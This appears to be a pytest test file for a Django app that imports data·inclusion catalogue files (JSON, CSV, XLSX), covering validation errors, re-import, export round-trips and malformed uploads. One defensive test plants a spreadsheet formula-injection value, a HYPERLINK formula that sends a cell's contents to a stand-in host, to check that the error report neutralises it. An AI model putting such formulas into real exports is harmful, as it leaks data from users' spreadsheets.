"""Import of data·inclusion files (JSON, CSV, XLSX): valid records in, each invalid one reported with its
position, field and message; re-importing the same file changes nothing; a malformed file is refused.

The import runs as the Celery task (eager in tests) enqueued after the commit of the upload request.
"""

import csv
import datetime
import io
import json

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from offre import services
from offre.models import ImportCatalogue, Service
from spie.models import Structure
from spie.tenancy import departement_scope
from tests.offre.factories import referentiel_geo

SIRET = "13003013300016"

STRUCTURES = [
    {
        "source": "dora",
        "id": "dora--s1",
        "nom": "Centre social du Vieux-Marché",
        "date_maj": "2025-01-10",
        "code_insee": "76540",
        "code_postal": "76000",
        "siret": SIRET,
        "reseaux_porteurs": ["ccas-cias"],
        "courriel": "accueil@centre-social.example",
        "site_web": "https://centre-social.example",
    },
    {"source": "dora", "id": "dora--s2", "nom": "X", "date_maj": "2025-01-10", "code_insee": "99999"},
]
SERVICE = {
    "source": "dora",
    "structure_id": "dora--s1",
    "nom": "Atelier numérique",
    "description": "Des ateliers pour apprendre à se servir d'un ordinateur et des services en ligne, en groupe.",
    "date_maj": "2025-02-01",
    "type": "atelier",
    "thematiques": ["numerique--maitriser-les-fondamentaux-du-numerique"],
    "publics": ["tous-publics"],
    "zone_eligibilite": ["76540", "200023414", "76", "france"],
    "modes_accueil": ["en-presentiel"],
    "code_insee": "76540",
}
SERVICES = [
    {**SERVICE, "id": "dora--atelier"},
    {**SERVICE, "id": "dora--theme-inconnu", "thematiques": ["mobilite--apprendre-a-voler"]},
    {**SERVICE, "id": "dora--zone-inconnue", "zone_eligibilite": ["76999", "ZZZ"]},
    {**SERVICE, "id": "dora--sans-structure", "structure_id": "dora--inconnue"},
    {**SERVICE, "id": "dora--structure-en-erreur", "structure_id": "dora--s2"},
    {**SERVICE, "id": "dora--permanence", "nom": "Permanence emploi", "type": "accompagnement"},
]


@pytest.fixture
def geo(db):
    return referentiel_geo()


def upload(client, *files):
    names = ["fichier", "fichier_2"]
    return client.post(reverse("offre:imports"), {names[i]: f for i, f in enumerate(files)})


def json_file(data, name="catalogue.json"):
    return SimpleUploadedFile(name, json.dumps(data).encode(), content_type="application/json")


def last_import():
    return ImportCatalogue.unscoped_objects.order_by("-pk").first()


def errors_by_id(row):
    result = {}
    for error in row.erreurs:
        result.setdefault(error["identifiant"], []).append((error["type"], error["numero"], error["champ"]))
    return result


def run_upload(client, django_capture_on_commit_callbacks, *files):
    with django_capture_on_commit_callbacks(execute=True):
        response = upload(client, *files)
    assert response.status_code == 302, response.content.decode()[:2000]
    row = last_import()
    assert response["Location"] == reverse("offre:import_detail", args=[row.uid])
    return row


def test_json_import_takes_valid_records_and_reports_each_invalid_one(
    client_admin_a, dep_a, geo, django_capture_on_commit_callbacks
):
    data = STRUCTURES + SERVICES + ["pas un objet"]
    row = run_upload(client_admin_a, django_capture_on_commit_callbacks, json_file(data))
    assert row.statut == "termine"
    assert (row.total, row.crees, row.modifies, row.inchanges, row.en_erreur) == (9, 3, 0, 0, 6)
    errors = errors_by_id(row)
    assert ("structure", 2, "nom") in errors["dora--s2"]
    assert ("structure", 2, "code_insee") in errors["dora--s2"]
    assert errors["dora--theme-inconnu"] == [("service", 2, "thematiques")]
    assert errors["dora--zone-inconnue"] == [("service", 3, "zone_eligibilite"), ("service", 3, "zone_eligibilite")]
    assert errors["dora--sans-structure"] == [("service", 4, "structure_id")]
    assert errors["dora--structure-en-erreur"] == [("service", 5, "structure_id")]
    assert errors[""] == [("structure", 3, "")]
    messages = {e["identifiant"]: e["message"] for e in row.erreurs}
    assert "mobilite--apprendre-a-voler" in messages["dora--theme-inconnu"]
    assert "Code officiel géographique" in messages["dora--zone-inconnue"]
    with departement_scope(dep_a):
        structure = Structure.objects.get(di_id="dora--s1")
        assert (structure.source, structure.commune_id, structure.type) == ("dora", "76540", "ccas")
        assert structure.date_maj == datetime.date(2025, 1, 10)
        assert set(Service.objects.values_list("di_id", flat=True)) == {"dora--atelier", "dora--permanence"}
        service = Service.objects.get(di_id="dora--atelier")
        assert (service.statut, service.structure, service.commune) == ("publie", structure, "Rouen")
        assert service.zone_keys == ["commune:76540", "dep:76", "epci:200023414", "france"]


def test_reimporting_the_same_file_changes_nothing(client_admin_a, dep_a, geo, django_capture_on_commit_callbacks):
    data = {"structures": STRUCTURES, "services": SERVICES}
    first = run_upload(client_admin_a, django_capture_on_commit_callbacks, json_file(data))
    with departement_scope(dep_a):
        before = list(Service.objects.order_by("pk").values_list("pk", "version", "updated_at", "score_qualite"))
        structure_before = Structure.objects.values_list("version", "updated_at").get(di_id="dora--s1")
    second = run_upload(client_admin_a, django_capture_on_commit_callbacks, json_file(data))
    assert (first.crees, first.modifies, first.inchanges) == (3, 0, 0)
    assert (second.crees, second.modifies, second.inchanges, second.en_erreur) == (0, 0, 3, first.en_erreur)
    with departement_scope(dep_a):
        assert (
            list(Service.objects.order_by("pk").values_list("pk", "version", "updated_at", "score_qualite")) == before
        )
        assert Structure.objects.values_list("version", "updated_at").get(di_id="dora--s1") == structure_before
    changed = {"structures": STRUCTURES, "services": [{**SERVICES[0], "nom": "Atelier numérique renouvelé"}]}
    third = run_upload(client_admin_a, django_capture_on_commit_callbacks, json_file(changed))
    assert (third.crees, third.modifies, third.inchanges) == (0, 1, 1)


def test_export_reimports_unchanged(client_admin_a, dep_a, geo, django_capture_on_commit_callbacks):
    """What the platform exports, it imports back as is (round trip through the CSV files)."""
    run_upload(client_admin_a, django_capture_on_commit_callbacks, json_file(STRUCTURES[:1] + SERVICES[:1]))
    files = [
        SimpleUploadedFile(name, client_admin_a.get(reverse("offre:export_fichier", args=[name])).content)
        for name in ("structures.csv", "services.csv")
    ]
    row = run_upload(client_admin_a, django_capture_on_commit_callbacks, *files)
    assert (row.crees, row.modifies, row.inchanges, row.en_erreur) == (0, 0, 2, 0), row.erreurs


def csv_file(name, records, fields):
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=fields, delimiter=";")
    writer.writeheader()
    for record in records:
        writer.writerow({k: ",".join(v) if isinstance(v, list) else v for k, v in record.items() if k in fields})
    return SimpleUploadedFile(name, buffer.getvalue().encode("utf-8"), content_type="text/csv")


def test_csv_import_reports_line_numbers(client_admin_a, dep_a, geo, django_capture_on_commit_callbacks):
    structure_fields = ["source", "id", "nom", "date_maj", "code_insee", "siret", "reseaux_porteurs"]
    service_fields = ["source", "structure_id", "id", "nom", "description", "date_maj", "type", "thematiques",
                      "publics", "zone_eligibilite", "modes_accueil", "volume_horaire_hebdomadaire"]  # fmt: skip
    services_rows = [
        {**SERVICES[0], "volume_horaire_hebdomadaire": "2,5"},
        {**SERVICES[5], "date_maj": "31/02/2025"},
        {**SERVICES[1]},
    ]
    row = run_upload(
        client_admin_a,
        django_capture_on_commit_callbacks,
        csv_file("services.csv", services_rows, service_fields),
        csv_file("structures.csv", STRUCTURES[:1], structure_fields),
    )
    assert (row.crees, row.en_erreur) == (2, 2), row.erreurs
    by_line = {(e["type"], e["ligne"], e["champ"]) for e in row.erreurs}
    assert by_line == {("service", 3, "date_maj"), ("service", 4, "thematiques")}
    with departement_scope(dep_a):
        assert Service.objects.get(di_id="dora--atelier").volume_horaire_hebdomadaire == 2.5


def test_xlsx_import_with_one_sheet_per_kind(client_admin_a, dep_a, geo, django_capture_on_commit_callbacks):
    workbook = openpyxl.Workbook()
    structures = workbook.active
    structures.title = "structures"
    structures.append(["source", "id", "nom", "date_maj", "code_insee", "code_postal"])
    structures.append(["dora", "dora--s1", "Centre social du Vieux-Marché", datetime.date(2025, 1, 10), 76540, 76000])
    sheet = workbook.create_sheet("services")
    sheet.append(["source", "structure_id", "id", "nom", "description", "date_maj", "thematiques", "zone_eligibilite"])
    sheet.append(["dora", "dora--s1", "dora--x1", "Atelier CV", SERVICE["description"], datetime.date(2025, 3, 1),
                  "preparer-sa-candidature--realiser-un-cv-et-ou-une-lettre-de-motivation", "76540, 76"])  # fmt: skip
    sheet.append(["dora", "dora--s1", "dora--x2", "Atelier CV bis", SERVICE["description"], "hier",
                  "preparer-sa-candidature--realiser-un-cv-et-ou-une-lettre-de-motivation", "france"])  # fmt: skip
    buffer = io.BytesIO()
    workbook.save(buffer)
    row = run_upload(
        client_admin_a, django_capture_on_commit_callbacks, SimpleUploadedFile("offre.xlsx", buffer.getvalue())
    )
    assert (row.crees, row.en_erreur) == (2, 1), row.erreurs
    assert [(e["type"], e["numero"], e["ligne"], e["champ"]) for e in row.erreurs] == [("service", 2, 3, "date_maj")]
    with departement_scope(dep_a):
        assert Structure.objects.get(di_id="dora--s1").code_postal == "76000"
        assert Service.objects.get(di_id="dora--x1").zone_eligibilite == ["76540", "76"]


def test_report_quotes_a_value_a_spreadsheet_would_run_as_a_formula(
    client_admin_a, geo, django_capture_on_commit_callbacks
):
    piege = '=HYPERLINK("https://exemple.fr/?"&A1;"Ouvrir")'
    services_piege = [{**SERVICES[0], "id": piege, "thematiques": ["theme-inconnu"]}]
    row = run_upload(client_admin_a, django_capture_on_commit_callbacks, json_file(STRUCTURES + services_piege))
    response = client_admin_a.get(reverse("offre:import_rapport", args=[row.uid]))
    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    identifiants = [line[3] for line in lines[1:]]
    assert "'" + piege in identifiants and piege not in identifiants


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("catalogue.json", b"{pas du json", "n'est pas un JSON valide"),
        ("catalogue.json", b'"une chaine"', "doit contenir une liste"),
        ("structures.csv", b"a;b;c\n1;2;3\n", "n'a pas les colonnes du schéma data·inclusion"),
        ("catalogue.xlsx", b"PK\x03\x04 pas un classeur", "n'est pas un fichier Excel"),
        ("catalogue.txt", b"bonjour", "Format non pris en charge"),
        ("catalogue.json", b"[]", "ne contient aucun enregistrement"),
    ],
)
def test_malformed_file_is_refused_with_a_clear_message(client_admin_a, geo, name, content, message):
    response = upload(client_admin_a, SimpleUploadedFile(name, content))
    assert response.status_code == 200
    assert message in " ".join(response.context["form"].non_field_errors())
    assert not ImportCatalogue.unscoped_objects.exists()


def test_report_is_kept_and_downloadable(client_admin_a, geo, django_capture_on_commit_callbacks):
    row = run_upload(client_admin_a, django_capture_on_commit_callbacks, json_file(STRUCTURES + SERVICES))
    page = client_admin_a.get(reverse("offre:import_detail", args=[row.uid])).content.decode()
    assert "mobilite--apprendre-a-voler" in page and "Télécharger le rapport" in page
    response = client_admin_a.get(reverse("offre:import_rapport", args=[row.uid]))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert lines[0] == ["Type", "N° d'enregistrement", "Ligne", "Identifiant", "Champ", "Message"]
    assert lines[3][:5] == ["service", "2", "", "dora--theme-inconnu", "thematiques"]
    assert len(lines) == 1 + len(row.erreurs)
    status = client_admin_a.get(reverse("offre:import_statut", args=[row.uid])).json()
    assert status | {"message": ""} == {
        "statut": "termine",
        "statut_libelle": "Terminé",
        "fini": True,
        "total": 8,
        "traites": 8,
        "pourcentage": 100,
        "crees": 3,
        "modifies": 0,
        "inchanges": 0,
        "en_erreur": 5,
        "message": "",
    }


def test_import_task_runs_once_and_exits_quietly_when_the_row_is_gone(client_admin_a, admin_a, dep_a, geo):
    from offre.tasks import importer_catalogue

    with departement_scope(dep_a):
        row = services.import_create(
            departement=dep_a, format="json", fichiers=[json_file(STRUCTURES[:1])], user=admin_a
        )
    importer_catalogue(dep_a.pk, row.pk)
    importer_catalogue(dep_a.pk, row.pk)  # a second delivery finds the row taken: nothing happens
    row.refresh_from_db()
    assert (row.statut, row.crees, row.inchanges) == ("termine", 1, 0)
    assert importer_catalogue(dep_a.pk, 999_999) is None
    assert importer_catalogue(999_999, row.pk) is None


def test_import_pages_are_for_the_admin_only(client_agent_a, geo):
    assert client_agent_a.get(reverse("offre:imports")).status_code == 403
    assert upload(client_agent_a, json_file(STRUCTURES)).status_code == 403
